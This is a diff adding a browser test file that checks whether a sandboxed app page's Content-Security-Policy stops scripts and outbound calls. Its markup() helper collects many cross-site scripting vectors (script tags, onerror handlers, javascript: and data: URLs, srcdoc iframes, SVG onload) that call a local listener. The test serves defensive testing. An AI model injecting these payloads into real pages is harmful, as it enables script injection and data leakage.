@@ -1,0 +1,142 @@
+"""A page of an app that may run no scripts: nothing it shows is run, in no frame, and what was blocked is told."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncIterator
+from html import escape
+from pathlib import Path
+
+import anyio
+import pytest
+from playwright.async_api import Page, expect
+
+from microapps.publish.blocked import about_a_script
+from microapps.publish.policy import app_page
+
+from .conftest import Listener, Served, inside, published, serve
+from .test_browser_attacks import CALL, WIDGETS, still_works, visit
+
+pytestmark = [pytest.mark.anyio, pytest.mark.browser, pytest.mark.sandbox]
+
+RUN = "window.attacked = true; new Image().src = 'URL/image'; fetch('URL/fetch'); " + CALL
+
+
+def markup(listener: Listener) -> str:
+    """Every way of HTML to run a script or to leave, with a probe that is known to reach the listener."""
+    run = RUN.replace("URL", listener.url).replace("PORT", str(listener.port))
+    script, quoted = f"<script>{run}</script>", escape(run)
+    framed = escape(f"{script}<img src=x onerror='{escape(run)}'>")
+    return f"""{script}<img src="data:," onerror="{quoted}"><a id="go" href="javascript:{quoted}">go</a>
+<iframe srcdoc="{framed}"></iframe><iframe src="javascript:{quoted}"></iframe>
+<iframe src="data:text/html,{framed}"></iframe>
+<div><template shadowrootmode="closed">{script}<iframe srcdoc="{framed}"></iframe></template></div>
+<svg onload="{quoted}"><script>{run}</script><animate onbegin="{quoted}" attributeName="x" dur="1s"/></svg>
+<object data="data:text/html,{framed}"></object><embed src="data:text/html,{framed}"><details open ontoggle="{quoted}">
+<summary>x</summary></details><video src="data:," onerror="{quoted}"></video><input autofocus onfocus="{quoted}">
+<script src="{listener.url}/script.js"></script><script type="module">{run}</script>
+<script src="data:text/javascript,{quoted}"></script><form action="{listener.url}/form"><button>Send</button></form>
+<a id="pop" target="_blank" href="{listener.url}/popup">pop</a><link rel="stylesheet" href="{listener.url}/style.css">
+<link rel="preconnect" href="{listener.url}"><link rel="dns-prefetch" href="{listener.url}">
+<link rel="prefetch" href="{listener.url}/prefetch"><img src="{listener.url}/picture">"""
+
+
+@pytest.fixture(scope="module")
+async def served(anyio_backend: str) -> AsyncIterator[Served]:
+    async for running in serve([], linger=0.5):
+        yield running
+
+
+@pytest.mark.parametrize("way", ["html widget", "display", "markdown", "output", "svg", "javascript"])
+async def test_nothing_runs_and_nothing_leaves(
+    way: str, served: Served, page: Page, listener: Listener, tmp_path: Path
+) -> None:
+    html = markup(listener)
+    run = RUN.replace("URL", listener.url).replace("PORT", str(listener.port))
+    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{escape(run)}"><script>{escape(run)}</script></svg>'
+    cell = {
+        "html widget": f"display(w.HTML({html!r}), w.HTML(description={html!r}, description_allow_html=True))",
+        "display": f"display(HTML({html!r}))",
+        "markdown": f"#md # Title\n\n{html}",
+        "output": f"o = w.Output()\nwith o: display(HTML({html!r}), Markdown({html!r}))\ndisplay(o)",
+        "svg": f"display(SVG({drawing!r}), HTML({drawing!r}))",
+        "javascript": f"display(Javascript({run!r}))",
+    }[way]
+    await visit(served, page, published(tmp_path, "quiet", WIDGETS, cell))
+    await still_works(page)
+    for link in ("#go", "#pop"):
+        if way not in ("svg", "javascript"):
+            await inside(page).locator(link).first.evaluate("link => link.click()")
+    await anyio.sleep(1.0)
+    assert await page.frames[1].evaluate("window.attacked === undefined")
+    await still_works(page)
+    assert listener.heard == []
+    assert len(page.context.pages) == 1
+    await expect(inside(page).get_by_text("it needs a permission that the app does not have")).to_be_visible()
+    notice = await served.notice("script_blocked", "quiet")
+    assert "page:scripts" in notice.detail
+    served.notices.clear()
+
+
+@pytest.mark.parametrize("way", ["refresh", "link"])
+async def test_the_page_cannot_be_made_to_leave(
+    way: str, served: Served, page: Page, listener: Listener, tmp_path: Path
+) -> None:
+    html = {
+        "refresh": f'<meta http-equiv="refresh" content="0;url={listener.url}/refresh">',
+        "link": f'<a id="away" href="{listener.url}/away">a</a><a id="top" target="_top" href="{listener.url}/t">t</a>',
+    }[way]
+    await visit(served, page, published(tmp_path, "leaving", WIDGETS, f"#md {html}"))
+    if way == "link":
+        await inside(page).locator("#top").click()
+        await inside(page).locator("#away").click()
+    await anyio.sleep(1.5)
+    assert listener.heard == []
+    assert page.url.startswith(served.site.url)
+
+
+async def test_a_page_with_nothing_to_run_has_no_notice(served: Served, page: Page, tmp_path: Path) -> None:
+    await visit(served, page, published(tmp_path, "plain", WIDGETS, "#md # Title\n\n<b>bold</b>"))
+    await still_works(page)
+    await expect(inside(page).locator("#microapps-notice")).to_have_count(0)
+    assert served.notices == []
+
+
+@pytest.mark.parametrize("policy", [True, False])
+async def test_the_policy_alone_keeps_calls_from_the_listener(policy: bool, page: Page, listener: Listener) -> None:
+    """The same frames on a bare page: without the policy the probe reaches the listener, with it nothing does."""
+    html = markup(listener)
+
+    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        await reader.readline()
+        said = f"Content-Security-Policy: {app_page('127.0.0.1:1', '/v/', '/s/')}\r\n" if policy else ""
+        body = f"<!DOCTYPE html>{html}".encode()
+        head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n{said}Content-Length: {len(body)}\r\n\r\n"
+        writer.write(head.encode() + body)
+        await writer.drain()
+        writer.close()
+
+    async with await asyncio.start_server(answer, "127.0.0.1", 0) as server:
+        await page.goto(f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}")
+        await anyio.sleep(2.0)
+    datagrams = [heard for heard in listener.heard if heard.startswith("datagram")]
+    if policy:
+        assert listener.heard == []
+    else:
+        assert datagrams and len(listener.heard) > len(datagrams)
+
+
+@pytest.mark.parametrize(
+    ("body", "counts"),
+    [
+        (b'{"csp-report": {"effective-directive": "script-src-elem", "blocked-uri": "inline"}}', True),
+        (b'{"csp-report": {"violated-directive": "script-src-attr"}}', True),
+        (b'{"csp-report": {"effective-directive": "img-src"}}', False),
+        (b'{"csp-report": []}', False),
+        (b"[]", False),
+        (b"\xff", False),
+        (b"[" * 100_000, False),
+    ],
+)
+async def test_a_report_counts_if_it_is_about_a_script(body: bytes, counts: bool) -> None:
+    assert about_a_script(body) is counts
